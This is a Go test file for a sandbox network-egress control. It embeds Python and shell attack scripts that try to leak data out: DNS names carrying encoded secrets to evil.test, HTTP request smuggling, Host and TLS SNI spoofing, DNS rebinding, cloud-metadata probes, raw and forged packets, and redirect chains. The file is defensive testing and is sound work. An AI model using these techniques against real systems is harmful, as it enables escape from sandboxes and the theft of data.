//go:build linux

package attack_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/cloche-dev/cloche/test/fixture"
	"github.com/cloche-dev/cloche/test/testnet"
)

// The resolver's questions and the connections that the sandboxes of a test network may make.
const (
	asksResolver = "udp 127.0.0.53:53"
	toAllowed80  = "tcp " + testnet.Allowed + ":80"
	toAllowed443 = "tcp " + testnet.Allowed + ":443"
	toDatabase   = "tcp " + testnet.Allowed + ":5432"
)

// TestNetworksOut tries what is known to lead out of sandboxes, from inside one of each
// engine. D01 to D10 are the names that these attacks have where they are collected.
func TestNetworksOut(t *testing.T) {
	fixture.OnEngines(t, networksOut)
}

func networksOut(t *testing.T, engine, settings string) {
	w := testnet.New(t, "version: 1\nmin_tier: namespace\nengine: "+engine+"\nprofiles: {few: {egress: {limits: {bytes_out: 64KiB}}}}\n", settings)
	w.Must("create", "--name", "box", "--allow", "allowed.test", "--allow", "*.wild.test", "--allow", "db.test:5432")
	for _, c := range []struct {
		name string
		run  func(*testing.T, *testnet.Network)
		gate bool // it is about what decides, which is the same behind every link
	}{
		{"D00 an empty list sends nothing at all", nothingLeaves, false},
		{"D01 data in the names of questions", dataInNames, false},
		{"D02 other spellings of hosts", otherSpellings, true},
		{"D03 another host inside an allowed connection", anotherHostInside, true},
		{"D04 names that lead elsewhere", namesThatLeadElsewhere, true},
		{"D05 tunnels through an allowed host", tunnels, true},
		{"D06 everything but TCP", otherProtocols, false},
		{"D07 what is reachable for the machine alone", privateAddresses, false},
		{"D08 more bytes than allowed", moreBytes, false},
		{"D10 redirects are judged again", redirects, true},
		{"lines that are forged in the log", forgedLines, true},
		{"changed rules cut flows", rulesCut, false},
		{"a daemon that dies lets nothing out", daemonDies, false},
	} {
		// The links of these are those of native, or of docker.
		if c.gate && (engine == "nsjail" || engine == "oci" || engine == "podman") {
			continue
		}
		ok := t.Run(c.name, func(t *testing.T) {
			w.T = t
			w.Revive()
			w.Heard()
			w.Packets()
			c.run(t, w)
		})
		w.T = t
		if !ok && t.Failed() {
			continue
		}
	}
	w.Must("rm", "-f", "box")
}

// nothingSent fails if anything left, except what is named.
func nothingSent(w *testnet.Network, but ...string) {
	w.T.Helper()
	if out := w.Packets(but...); len(out) > 0 {
		w.T.Errorf("left: %q", out)
	}
	names, requests := w.Heard()
	for _, q := range requests {
		host, _, _ := strings.Cut(strings.ToLower(strings.TrimSuffix(q.Host, ".")), ":")
		if strings.TrimSuffix(host, ".") != "allowed.test" || q.SNI != "" && q.SNI != "allowed.test" || !strings.HasPrefix(q.At, testnet.Allowed+":") {
			w.T.Errorf("served: %+v", q)
		}
	}
	for _, n := range names {
		if !slices.Contains([]string{"allowed.test.", "db.test."}, n) {
			w.T.Errorf("asked: %s", n)
		}
	}
}

const tryEverything = `
for labels in ([b'secret', b'evil', b'test'], [b'allowed', b'test'], [b'localhost'], [b'x' * 63] * 3 + [b'test']):
    for kind in (1, 28, 16, 15, 65, 255, 10, 12):
        for server in (('10.88.0.1', 53), ('8.8.8.8', 53), ('127.0.0.53', 53)):
            code, n = ask(labels, kind, server, 1)
            if n or code == 0:
                print('LEAK answered', labels, kind, server, code, n)
tries = []
for host in ('allowed.test', '93.184.215.14', '93.184.215.66', '198.18.0.1', '169.254.169.254', '10.88.0.1', '10.0.0.1', '8.8.8.8'):
    tries += [(host, port) for port in (80, 443, 22, 53, 853, 5432) if (host, port) != ('10.88.0.1', 53)]
for to in connected(tries):
    print('LEAK connected', to)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in (53, 123, 443, 4500, 5353):
    for host in ('93.184.215.14', '8.8.8.8', '224.0.0.251', '255.255.255.255', '10.88.0.255'):
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b'data', (host, port))
        except OSError:
            pass
`

func nothingLeaves(_ *testing.T, w *testnet.Network) {
	w.Must("create", "--name", "empty", "--net", "on")
	w.Attack("empty", tryEverything)
	nothingSent(w)
	w.Must("create", "--name", "without", "--net", "none")
	w.Attack("without", tryEverything)
	nothingSent(w)
	w.Must("rm", "-f", "empty", "without")
}

func dataInNames(t *testing.T, w *testnet.Network) {
	w.Attack("box", `
import base64
data = base64.b32encode(b'the whole of a secret key').strip(b'=').lower()
for labels in ([data, b'evil', b'test'], [data, b'allowed', b'test'], [b'_' + data, b'evil', b'test'], [b'_x', data, b'allowed', b'test'],
               [data + b'.allowed.test'], [b'allowed.test\0', b'evil', b'test'], [data, b'xn--wild', b'test'], [data]):
    for kind in (1, 28, 16, 15, 5, 2, 6, 33, 65, 64, 255, 251, 252, 10, 12, 99):
        code, n = ask(labels, kind)
        if n or code == 0:
            print('LEAK answered', labels, kind, code, n)
for kind in (28, 16, 15, 5, 2, 33, 64, 65, 255, 252):
    code, n = ask([b'allowed', b'test'], kind)
    if n:
        print('LEAK an answer of kind', kind)
for server in ('8.8.8.8', '1.1.1.1', '127.0.0.53', '93.184.215.14', '10.0.0.53'):
    for port in (53, 853, 443, 5353, 784):
        if connected([(server, port)]):
            print('LEAK connected to a resolver', server, port)
        code, n = ask([data, b'evil', b'test'], 1, (server, port), 1)
        if code == 0 or n:
            print('LEAK a resolver answered', server, port)
# By TCP to our own, many in one stream, and one that goes on after a refusal.
s = connect('10.88.0.1', 53)
q = question([data, b'evil', b'test'], 16)
s.sendall((struct.pack('>H', len(q)) + q) * 3)
for i in range(3):
    n = struct.unpack('>H', s.recv(2))[0]
    a = s.recv(n)
    if a[3] & 15 != 5:
        print('LEAK by tcp', a)
`)
	nothingSent(w)
	// A name that only a star allows is asked for when it is connected to, and not before.
	w.Attack("box", `
print(ask([b'a', b'wild', b'test']))
`)
	if names, _ := w.Heard(); len(names) > 0 {
		t.Errorf("the question for a name went out before there was a connection: %q", names)
	}
	nothingSent(w)
}

func otherSpellings(_ *testing.T, w *testnet.Network) {
	out := w.Attack("box", `
good = [b'allowed.test', b'ALLOWED.Test', b'allowed.test.', b'allowed.test:80']
bad = [b'evil.test', b'allowed.test\x00.evil.test', b'allowed.test%00.evil.test', b'allowed.test@evil.test', b'evil.test@allowed.test', b'evil.test#allowed.test',
       b'evil.test/allowed.test', b'allowed.test:443', b'allowed.test:80@evil.test', b'allowed.test:', b'allowed.test:+80', b'allowed.test..', b'.allowed.test',
       'аllowed.test'.encode(), 'allowed\u3002test'.encode(), 'ａllowed.test'.encode(), b'xn--llowed-8ya.test', b'93.184.215.14', b'0x5d.184.215.14',
       b'0135.0270.0327.016', b'1572394766', b'93.12113678', b'[::ffff:93.184.215.14]', b'::1', b'[::1]:80', b'localhost', b'', b'allowed.test evil.test', b'allowed.test\tx',
       b'allowed.test,evil.test', b'allowed.test\\.evil.test', b'a' * 254, b'allowed.test\x7f', b'*.test', b'-allowed.test']
for h in good:
    a = talk(b'GET /good HTTP/1.1\r\nHost: ' + h + b'\r\nConnection: close\r\n\r\n')
    if b' 200 ' not in a:
        print('LEAK not even', h, a)
for h in bad:
    a = talk(b'GET /bad HTTP/1.1\r\nHost: ' + h + b'\r\nConnection: close\r\n\r\n')
    if b' 200 ' in a or b' 403 ' not in a and b' 400 ' not in a:
        print('LEAK by the host', h, a)
for extra in (b'Host: evil.test\r\n', b'hOsT: allowed.test\r\n', b'Host : evil.test\r\n', b' Host: evil.test\r\n', b'X: y\nHost: evil.test\r\n', b'X: y\rHost: evil.test\r\n'):
    a = talk(b'GET /bad HTTP/1.1\r\nHost: allowed.test\r\n' + extra + b'\r\n')
    if b' 200 ' in a:
        print('LEAK by a second field', extra, a)
# Every notation of an address is an address, whoever turns it into one.
for h in ('93.184.215.66', '0x5db8d742', '1572394818', '0135.0270.0327.0102', '93.184.55106', '127.1', '[::ffff:93.184.215.66]', '[64:ff9b::5db8:d742]', '[2001:4860::1]', '169.254.43518', '0', '[::]'):
    code = os.system("curl -s -o /dev/null --max-time 3 'http://%s/bad'" % h)
    if code == 0:
        print('LEAK curl reached', h)
for labels in ([b'evil.test'], [b'allowed.test'], [b'allowed', b'test\0'], ['аllowed'.encode(), b'test'], [b'93', b'184', b'215', b'66'], [b'0x5db8d742'], [b'1572394818'], [b'allowed', b'test', b'x' * 63]):
    code, n = ask(labels)
    if code == 0 or n:
        print('LEAK resolved', labels)
code, n = ask([b'aLLoWeD', b'TesT'])
if n != 1:
    print('LEAK upper case is another name', code, n)
`)
	_ = out
	nothingSent(w, asksResolver, toAllowed80)
}

func anotherHostInside(t *testing.T, w *testnet.Network) {
	w.Attack("box", `
c = ssl.create_default_context()
c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
def hello(name, alpn=None, session=None, context=c):
    try:
        if alpn:
            context.set_alpn_protocols(alpn)
        s = context.wrap_socket(connect('allowed.test', 443), server_hostname=name, session=session)
        return s
    except OSError as e:
        return None
for name in ('evil.test', None, 'xn--llowed-8ya.test', 'allowed.test.evil.test', 'a.allowed.test', '93.184.215.14'):
    if hello(name):
        print('LEAK tls for', name)
s = hello('allowed.test')
if not s:
    print('LEAK not even allowed.test')
s.sendall(b'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n')
while s.recv(4096):
    pass
# A session of the allowed host does not open another one.
c.check_hostname = False
if s.session is None:
    print('no session')
try:
    again = c.wrap_socket(connect('allowed.test', 443), server_hostname='evil.test', session=s.session)
    print('LEAK a session was used for another host')
except (OSError, ValueError) as e:
    pass
# TLS on the port of HTTP and HTTP on the port of TLS are the same to us; neither opens another host.
for port, host in ((443, b'evil.test'), (80, b'evil.test')):
    if b' 200 ' in talk(b'GET / HTTP/1.1\r\nHost: ' + host + b'\r\n\r\n', port=port):
        print('LEAK http at', port)
for first in (b'SSH-2.0-x\r\n', b'\x80\x2e\x01\x00\x02', b'\x16\x03\x01\x00\x00', b'\x00' * 64, b'EHLO x\r\n', b'\x16\x02\x01\x00\x05hello', b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'):
    a = talk(first + b'evil', port=443)
    if b' 200 ' in a or b'HTTP/1.1 400' in a and b'refused' not in a:
        print('LEAK first bytes', first, a)
def ext(kind, b):
    return struct.pack('>HH', kind, len(b)) + b
def raw_hello(name):
    n = name.encode()
    e = ext(0, struct.pack('>HBH', len(n) + 3, 0, len(n)) + n) + ext(43, b'\x02\x03\x04') + ext(10, b'\0\4\0\x1d\0\x17') + ext(13, b'\0\4\4\3\x08\4') + ext(51, b'\0\0')
    b = b'\3\3' + b'r' * 32 + b'\x20' + b's' * 32 + b'\0\2\x13\1\1\0' + struct.pack('>H', len(e)) + e
    m = b'\1' + struct.pack('>I', len(b))[1:] + b
    return b'\x16\3\1' + struct.pack('>H', len(m)) + m
time.sleep(1.5) # what is refused alike in a second is told once
# The first hello offers no key, so the server asks for a second, which names another host.
s = connect('allowed.test', 443)
s.sendall(raw_hello('allowed.test'))
a = s.recv(4096)
if a[:1] != b'\x16' or a[5] != 2:
    print('LEAK the server did not ask for a second hello', a[:20])
try:
    s.sendall(b'\x14\3\3\0\1\1' + raw_hello('evil.test'))
    while True:
        b = s.recv(4096)
        if not b:
            print('LEAK a second hello was not seen')
            break
except ConnectionResetError:
    pass
`)
	if out := w.Must("egress", "log", "--kind", "refused", "-n", "3", "box"); !strings.Contains(out, "TLS hello names another host") {
		t.Errorf("a second hello was not refused:\n%s", out)
	}
	w.Must("exec", "box", "--", "sh", "-c", `
! openssl s_client -connect allowed.test:443 -servername evil.test </dev/null >/dev/null 2>&1
openssl s_client -connect allowed.test:443 -servername allowed.test -sess_out /tmp/s </dev/null >/dev/null 2>&1
! openssl s_client -connect allowed.test:443 -servername evil.test -sess_in /tmp/s </dev/null >/dev/null 2>&1
! openssl s_client -connect allowed.test:443 -noservername </dev/null >/dev/null 2>&1
! curl -ksS --max-time 30 --connect-to evil.test:443:allowed.test:443 https://evil.test/ 2>/dev/null
! curl -sS --max-time 30 --fail --connect-to evil.test:80:allowed.test:80 http://evil.test/ 2>/dev/null
`)
	nothingSent(w, asksResolver, toAllowed80, toAllowed443)
}

func namesThatLeadElsewhere(t *testing.T, w *testnet.Network) {
	w.Knows("cname.wild.test", "inner.corp", "10.0.0.5")
	w.Knows("good.wild.test", "cdn.example", testnet.Allowed)
	w.Knows("several.wild.test", "127.0.0.1", "169.254.169.254", "10.0.0.9", testnet.Allowed)
	w.Answers("rebind.wild.test", func(asked int) []string {
		if asked == 0 {
			return []string{testnet.Allowed}
		}
		return []string{"127.0.0.1"}
	})
	w.Attack("box", `
def get(host):
    return talk(b'GET / HTTP/1.1\r\nHost: ' + host.encode() + b'\r\nConnection: close\r\n\r\n', host)
def refused(host):
    try:
        a = get(host)
    except OSError:
        return True
    return b' 403 ' in a and b'egress.private' in a
if not refused('cname.wild.test'):
    print('LEAK by a name of a name')
for host in ('good.wild.test', 'several.wild.test'):
    if b' 200 ' not in get(host):
        print('LEAK not even', host)
# Resolved once for the first connection, and again for the second: the address inside stays.
first = socket.gethostbyname('rebind.wild.test')
if b' 200 ' not in get('rebind.wild.test'):
    print('LEAK not even the first time')
for i in range(3):
    if not refused('rebind.wild.test'):
        print('LEAK by rebinding')
if socket.gethostbyname('rebind.wild.test') != first:
    print('LEAK another address')
# Names that are edited inside change nothing: the address is one of a name that is known.
for path in ('/etc/hosts', '/etc/resolv.conf'):
    try:
        open(path, 'a').write('198.18.0.1 evil.test\n')
        print('LEAK wrote', path)
    except OSError:
        pass
for i in range(1, 20):
    try:
        a = talk(b'GET /bad HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n', '198.18.0.%d' % i)
        if b' 200 ' in a:
            print('LEAK by an address in place of a name')
    except OSError:
        pass
`)
	names, requests := w.Heard()
	for _, q := range requests {
		if strings.Contains(q.Target, "bad") || !strings.HasPrefix(q.At, testnet.Allowed+":") {
			t.Errorf("served: %+v", q)
		}
	}
	if slices.ContainsFunc(names, func(n string) bool { return !strings.HasSuffix(n, ".wild.test.") && n != "allowed.test." }) {
		t.Errorf("asked: %q", names)
	}
	nothingSent(w, asksResolver, toAllowed80)
}

func tunnels(t *testing.T, w *testnet.Network) {
	w.Attack("box", `
H = b'Host: allowed.test\r\n'
evil = b'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n'
for what, data in {
    'connect': b'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n',
    'connect allowed': b'CONNECT allowed.test:80 HTTP/1.1\r\n' + H + b'\r\n',
    'connect mixed': b'CONNECT evil.test:443 HTTP/1.1\r\n' + H + b'\r\n',
    'absolute': b'GET http://evil.test/ HTTP/1.1\r\n' + H + b'\r\n',
    'absolute userinfo': b'GET http://allowed.test@evil.test/ HTTP/1.1\r\n' + H + b'\r\n',
    'absolute fragment': b'GET http://allowed.test#@evil.test/ HTTP/1.1\r\n' + H + b'\r\n',
    'absolute backslash': b'GET http://allowed.test\\@evil.test/ HTTP/1.1\r\n' + H + b'\r\n',
    'absolute https': b'GET https://allowed.test/ HTTP/1.1\r\n' + H + b'\r\n',
    'no path': b'GET evil.test HTTP/1.1\r\n' + H + b'\r\n',
    '0.9': b'GET /\r\n', '0.9 of another': b'GET http://evil.test/\r\n\r\n',
    'two versions': b'GET / HTTP/1.1 HTTP/1.1\r\n' + H + b'\r\n', 'version 1.2': b'GET / HTTP/1.2\r\n' + H + b'\r\n', 'version 2': b'GET / HTTP/2.0\r\n' + H + b'\r\n',
    'h2 known before': b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'\0\0\0\4\0\0\0\0\0',
    'cl.te': b'POST / HTTP/1.1\r\n' + H + b'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + evil,
    'te.te': b'POST / HTTP/1.1\r\n' + H + b'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n' + evil,
    'te list': b'POST / HTTP/1.1\r\n' + H + b'Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n' + evil,
    'te space': b'POST / HTTP/1.1\r\n' + H + b'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n' + evil,
    'te tab': b'POST / HTTP/1.1\r\n' + H + b'Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n' + evil,
    'te folded': b'POST / HTTP/1.1\r\n' + H + b'Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n' + evil,
    'te 1.0': b'POST / HTTP/1.0\r\n' + H + b'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + evil,
    'cl.cl': b'POST / HTTP/1.1\r\n' + H + b'Content-Length: 0\r\nContent-Length: 44\r\n\r\n' + evil,
    'cl list': b'POST / HTTP/1.1\r\n' + H + b'Content-Length: 0, 44\r\n\r\n' + evil,
    'cl plus': b'POST / HTTP/1.1\r\n' + H + b'Content-Length: +0\r\n\r\n' + evil,
    'cl hex': b'POST / HTTP/1.1\r\n' + H + b'Content-Length: 0x0\r\n\r\n' + evil,
    'cl huge': b'POST / HTTP/1.1\r\n' + H + b'Content-Length: 99999999999999999999\r\n\r\n' + evil,
    'named hop': b'POST / HTTP/1.1\r\n' + H + b'Connection: content-length\r\nContent-Length: 44\r\n\r\n' + evil,
    'chunk size': b'POST / HTTP/1.1\r\n' + H + b'Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n' + evil,
    'chunk wraps': b'POST / HTTP/1.1\r\n' + H + b'Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n' + evil,
    'chunk end': b'POST / HTTP/1.1\r\n' + H + b'Transfer-Encoding: chunked\r\n\r\n1\r\nxx\r\n0\r\n\r\n' + evil,
    'bare feed': b'GET / HTTP/1.1\nHost: allowed.test\n\n' + evil,
    'bare feed between': b'GET / HTTP/1.1\r\n' + H + b'X: y\n\n' + evil,
    'pipelined': b'GET /first HTTP/1.1\r\n' + H + b'\r\n' + evil,
    'after a body': b'POST /first HTTP/1.1\r\n' + H + b'Content-Length: 2\r\n\r\nhi' + evil,
    'after chunks': b'POST /first HTTP/1.1\r\n' + H + b'Transfer-Encoding: chunked\r\n\r\n2;x="\r\nhi\r\n0\r\nHost: evil.test\r\n\r\n' + evil,
    'upgrade h2c': b'GET / HTTP/1.1\r\n' + H + b'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n' + evil,
    'upgrade tls': b'OPTIONS * HTTP/1.1\r\n' + H + b'Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n' + evil,
    'websocket that is not granted': b'GET /plain HTTP/1.1\r\n' + H + b'Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n' + evil,
    'expect': b'POST / HTTP/1.1\r\n' + H + b'Expect: 100-continue\r\nContent-Length: 2\r\n\r\nhi' + evil,
}.items():
    a = talk(data)
    if b'/smuggled' in a or b'evil.test\n' in a:
        print('LEAK', what, a)
# A WebSocket goes on, and is one connection to the host that is allowed.
s = connect('allowed.test', 80)
s.sendall(b'GET /ws HTTP/1.1\r\n' + H + b'Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n')
head = b''
while b'\r\n\r\n' not in head:
    head += s.recv(4096)
s.sendall(b'ping')
if b' 101 ' not in head or s.recv(16) != b'ping':
    print('LEAK not even a websocket', head)
# A head that never ends ends.
s = connect('allowed.test', 80)
try:
    s.sendall(b'GET / HTTP/1.1\r\n' + H + b'X: ' + b'y' * (1 << 20))
    a = s.recv(100)
    if b' 400 ' not in a:
        print('LEAK an endless head', a)
except OSError:
    pass
`)
	_, requests := w.Heard()
	for _, q := range requests {
		if q.Host != "allowed.test" || strings.Contains(q.Target, "smuggled") || strings.Contains(q.Target, "evil") {
			t.Errorf("served: %+v", q)
		}
	}
	nothingSent(w, asksResolver, toAllowed80)
}

func otherProtocols(_ *testing.T, w *testnet.Network) {
	out := w.Attack("box", `
at = socket.gethostbyname('allowed.test')
for host in (at, '93.184.215.14', '8.8.8.8', '10.88.0.1'):
    for port in (443, 123, 53, 500, 4500, 3478, 1194, 51820):
        if (host, port) == ('10.88.0.1', 53):
            continue
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(20)
        s.connect((host, port))
        began = time.time()
        try:
            s.send(b'\xc3\0\0\0\1' + b'q' * 1200)
            s.recv(100)
            print('LEAK a datagram was answered', host, port)
        except ConnectionRefusedError:
            if time.time() - began > 10:
                print('LEAK told late', host, port)
        except OSError as e:
            print('LEAK not told', host, port, e)
def attempt(what, f):
    try:
        r = f()
        print(what, 'could:', r)
        return r
    except (OSError, AttributeError, OverflowError) as e:
        print(what, 'could not:', e)
def raw(proto, payload, to):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
    s.settimeout(1)
    s.sendto(payload, (to, 0))
    return s
echo = struct.pack('>BBHHH', 8, 0, 0xf7f1, 7, 7) + b'secret'
for to in (at, '93.184.215.14', '8.8.8.8'):
    def ping():
        s = raw(1, struct.pack('>BBHHH', 8, 0, 0, 7, 7) + b'secret', to)
        a, who = s.recvfrom(100)
        if who[0] == to:
            print('LEAK a ping was answered', to)
    attempt('icmp ' + to, ping)
for proto in (2, 4, 41, 47, 50, 51, 89, 103, 132, 255):
    attempt('raw %d' % proto, lambda: raw(proto, b'\x45' + b'secret' * 20, '93.184.215.14'))
def forge(src, dst):
    head = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 48, 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    s.sendto(head + struct.pack('>HHHH', 53, 53, 28, 0) + b'secret', (dst, 0))
attempt('forged', lambda: forge('8.8.8.8', '93.184.215.14'))
def frame(kind, dst, payload):
    s = socket.socket(17, socket.SOCK_RAW, socket.htons(3))
    s.bind((socket.if_nameindex()[-1][1], 0))
    s.send(dst + b'\2\0\0\0\0\2' + struct.pack('>H', kind) + payload)
for kind in (0x86dd, 0x8100, 0x88a8, 0x88cc, 0x0806, 0x0800):
    for dst in (b'\2\0\0\0\0\1', b'\xff' * 6, b'\1\x80\xc2\0\0\0'):
        attempt('frame %x' % kind, lambda: frame(kind, dst, b'\x60' + b'\0' * 100))
for family in (40, 16, 38, 29, 30, 44, 15, 9):
    for kind in (1, 2, 3, 5):
        def other():
            s = socket.socket(family, kind)
            if family == 40:
                s.settimeout(2)
                s.connect((2, 1024))
                print('LEAK vsock')
            return s
        attempt('family %d' % family, other)
attempt('ipv6', lambda: socket.create_connection(('2001:4860::1', 80), 2) and print('LEAK ipv6'))
attempt('mapped', lambda: socket.create_connection(('::ffff:93.184.215.66', 80), 2) and print('LEAK mapped'))
attempt('sctp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))
for path in ('/run/cloche.sock', '/cloche.sock', '/var/run/docker.sock'):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path) or print('LEAK', path))
for name in ('\0cloche', '\0/holder', '\0holder'):
    attempt(repr(name), lambda: socket.socket(socket.AF_UNIX).connect(name) or print('LEAK', name))
# Another address for itself, and routes of its own.
for cmd in ('ip addr add 93.184.215.99/24 dev eth0', 'ip route add default via 10.88.0.77', 'ip link set eth0 address 02:00:00:00:00:09', 'ip link set eth0 mtu 100'):
    os.system(cmd + ' >/dev/null 2>&1')
for host in ('93.184.215.66', '8.8.8.8'):
    if reach(host, 80) == 'connected':
        print('LEAK by another route', host)
`)
	_ = out
	nothingSent(w)
	// A connection of TCP is still possible.
	w.Must("exec", "box", "--", "curl", "-sS", "--max-time", "5", "http://allowed.test/")
	nothingSent(w, asksResolver, toAllowed80)
}

func privateAddresses(t *testing.T, w *testnet.Network) {
	addrs := []string{
		"127.0.0.1", "127.255.255.254", "0.0.0.0", "10.0.0.1", "10.88.0.1", "10.88.0.2", "100.64.0.1", "100.100.100.200", "169.254.169.254", "169.254.170.2", "169.254.1.1",
		"172.16.0.1", "172.17.0.1", "192.0.0.192", "192.0.2.1", "192.168.0.1", "198.18.0.1", "198.19.255.255", "198.51.100.1", "203.0.113.1", "224.0.0.1", "240.0.0.1",
		"255.255.255.255", "168.63.129.16", testnet.Own,
		"::", "::1", "::127.0.0.1", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "64:ff9b:1::1", "2002:7f00:1::", "2001::1", "fd00:ec2::254", "fe80::1", "fec0::1", "ff02::1",
		"2001:db8::1", "100::1",
	}
	var names strings.Builder
	for i, a := range addrs {
		name := fmt.Sprintf("p%d.wild.test", i)
		w.Knows(name, a)
		fmt.Fprintf(&names, "%q, ", name)
	}
	w.Attack("box", `
names = [`+names.String()+`]
ports = (80, 443)
for n in names:
    for port in ports:
        try:
            a = talk(b'GET /meta-data HTTP/1.1\r\nHost: ' + n.encode() + b'\r\nConnection: close\r\n\r\n', n, port)
        except OSError:
            continue
        if b' 403 ' not in a or b'egress.private' not in a:
            print('LEAK', n, port, a)
# 10.88.0.3 is what is sent to all in the sandbox's network: gVisor sends there too, and nothing answers.
for to in connected([(host, port) for host in ('10.88.0.1', '127.0.0.1', '93.184.216.34', '10.88.0.3', '172.17.0.1')
                     for port in (22, 80, 443, 2375, 6443, 7777, 8080, 10250, 5432)]):
    print('LEAK', to)
`)
	if _, requests := w.Heard(); len(requests) > 0 {
		t.Errorf("served: %+v", requests)
	}
	nothingSent(w, asksResolver)
}

func moreBytes(t *testing.T, w *testnet.Network) {
	const limit = 64 << 10
	w.Must("create", "--name", "few", "--profile", "few", "--allow", "db.test:5432")
	w.Received.Store(0)
	w.Attack("few", `
def send(n):
    try:
        s = connect('db.test', 5432)
        s.recv(10)
        s.sendall(b'x' * n)
        s.shutdown(1)
        s.recv(10)
    except OSError as e:
        return type(e).__name__
print(send(1000), send(1 << 20), send(10), send(1))
`)
	fixture.Poll(func() bool { return w.Received.Load() == limit })
	if received := w.Received.Load(); received != limit {
		t.Errorf("%d bytes left, %d may", received, limit)
	}
	if out := w.Must("egress", "log", "--kind", "refused", "few"); !strings.Contains(out, "egress.budget") {
		t.Errorf("nobody was told:\n%s", out)
	}
	w.Must("rm", "-f", "few")
	nothingSent(w, asksResolver, toDatabase)
}

func redirects(t *testing.T, w *testnet.Network) {
	w.Must("exec", "box", "--", "sh", "-c", `
for to in http://evil.test/x https://evil.test/x http://93.184.215.66/x http://169.254.169.254/latest/meta-data/ http://allowed.test@evil.test/ http://127.0.0.1:5432/ ftp://evil.test/ gopher://db.test:5432/_x; do
  out=$(curl -sS -L --max-time 30 --location-trusted -H 'Authorization: Bearer canary' "http://allowed.test/to/$to" 2>&1) && case $out in *served*) echo "LEAK $to $out"; exit 1;; esac
done
curl -sS -L --max-time 30 http://allowed.test/to/http://allowed.test/again | grep -q 'served /again'
`)
	_, requests := w.Heard()
	for _, q := range requests {
		if q.Host != "allowed.test" {
			t.Errorf("served: %+v", q)
		}
	}
	nothingSent(w, asksResolver, toAllowed80, toDatabase)
}
